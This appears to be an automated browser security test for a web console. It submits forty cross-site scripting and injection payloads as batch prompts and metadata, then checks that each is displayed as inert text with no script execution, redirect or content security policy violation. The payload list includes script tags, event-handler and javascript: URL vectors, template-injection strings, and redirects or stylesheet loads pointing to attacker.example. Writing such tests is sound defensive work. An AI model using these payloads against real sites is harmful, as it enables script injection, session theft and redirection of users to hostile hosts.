import t from 'tap'
import { launchBrowser, noBrowser, openPage, signIn } from '../support/browser.ts'
import { PASSWORD } from '../support/accounts.ts'
import { PATIENCE, prepareConsole } from './console.ts'

t.setTimeout(300_000)

const RUN = 'window.attacked=true'
/** Each would run a script, or leave the page, where text is taken for markup, a style, an address or code. */
const ATTACKS = [
  `<script>${RUN}</script>`, `"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`, `]]><script>${RUN}</script>`, `<img src=x onerror="${RUN}">`, `"><img src=x onerror=${RUN}>`, `<svg onload="${RUN}">`, `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`, `<body onload="${RUN}">`, `<iframe srcdoc="<script>parent.${RUN}</script>">`, `<iframe src="javascript:parent.${RUN}">`, `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`, `<a href="javascript:${RUN}" autofocus onfocus="${RUN}">x</a>`, `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `data:text/html,<script>${RUN}</script>`, `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}">`, `<video src=x onerror="${RUN}">`, `<audio src=x onerror="${RUN}">`, `<marquee onstart="${RUN}">`, '<meta http-equiv="refresh" content="0;url=https://attacker.example">',
  '<link rel="stylesheet" href="https://attacker.example/x.css">', '<base href="https://attacker.example/">', '<form action="https://attacker.example"><button autofocus>x</button></form>', '<math><mtext><table><mglyph><style><img src=x onerror=window.attacked=true>',
  `\${${RUN}}`, `{{constructor.constructor('${RUN}')()}}`, '" style="background:url(https://attacker.example)" x="', `' onmouseover='${RUN}`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `<template><script>${RUN}</script></template>`
]

t.test('forty attacks in prompts, metadata and what a provider says stay text', { skip: noBrowser }, async t => {
  t.equal(ATTACKS.length, 40)
  const { start } = await prepareConsole(t, { SANDBOX_DURATION_MS: '300' })
  const { url } = await start()
  const headers = { 'content-type': 'application/json' }
  const { data: { token } } = await (await fetch(`${url}/api/auth/login`, { method: 'POST', headers, body: JSON.stringify({ username: 'admin', password: PASSWORD }) })).json() as { data: { token: string } }
  const items = ATTACKS.map((attack, index) => ({ prompt: index % 4 === 0 ? `${attack} [[fail]]` : attack, metadata: { note: attack } }))
  const made = await fetch(`${url}/api/video/batches`, { method: 'POST', headers: { ...headers, authorization: `Bearer ${token}` }, body: JSON.stringify({ items }) })
  t.equal(made.status, 201)

  const { page, complaints, strangers } = await openPage(await launchBrowser(t), url, { viewport: { width: 1280, height: 6_000 } })
  await signIn(page)
  await page.getByRole('article').nth(ATTACKS.length - 1).waitFor(PATIENCE)
  const shown = await Promise.all((await page.getByRole('article').all()).map(card => card.getAttribute('aria-label')))
  for (const { prompt } of items) t.ok(shown.includes(prompt), prompt)

  for (const at of [0, 1, 13]) {
    await page.getByRole('article').nth(at).getByRole('button').first().click()
    await page.getByRole('dialog').getByText('Metadata').click(PATIENCE)
    await page.keyboard.press('Escape')
    await page.getByRole('dialog').waitFor({ state: 'hidden', ...PATIENCE })
  }
  const first = await page.getByRole('article').first().getAttribute('data-task')
  await page.goto(`${url}/lineage/${first}`)
  await page.locator('.react-flow__node').first().waitFor(PATIENCE)

  t.equal(await page.evaluate('window.attacked'), undefined)
  t.equal(new URL(page.url()).origin, url)
  t.same(complaints, [], 'no violation of the content security policy')
  t.same(strangers, [])
})
